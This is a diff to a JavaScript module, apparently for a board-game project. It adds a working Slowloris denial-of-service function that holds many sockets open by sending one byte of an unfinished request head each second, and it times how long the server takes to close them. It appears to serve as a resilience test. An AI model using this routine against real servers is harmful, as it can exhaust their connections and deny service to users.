@@ -170,6 +170,35 @@ export function parseResponses(data) {
   return { responses: out, rest: data.slice(at) };
 }
 
+// Slowloris: opens `count` sockets with `connect(onOpen)` (net.connect or
+// tls.connect) and sends each a byte of `head` every second, never
+// finishing it. Resolves once all are open to { closedAt, stop }:
+// closedAt collects, for each socket the server closes, the milliseconds
+// since the start; stop() ends the attack.
+export async function slowloris(count, connect, head) {
+  const socks = [];
+  const closedAt = [];
+  const t0 = Date.now();
+  await Promise.all(Array.from({ length: count }, () => new Promise((resolve) => {
+    const s = connect(resolve);
+    s.on('error', () => resolve());
+    s.on('close', () => closedAt.push(Date.now() - t0));
+    socks.push(s);
+  })));
+  let at = 0;
+  const drip = setInterval(() => {
+    for (const s of socks) if (!s.destroyed) s.write(head[Math.min(at, head.length - 1)]);
+    at += 1;
+  }, 1000);
+  return {
+    closedAt,
+    stop() {
+      clearInterval(drip);
+      for (const s of socks) s.destroy();
+    },
+  };
+}
+
 // An empty 15x15 board as arrays of ".".
 export function emptyBoard() {
   return Array.from({ length: 15 }, () => Array(15).fill('.'));
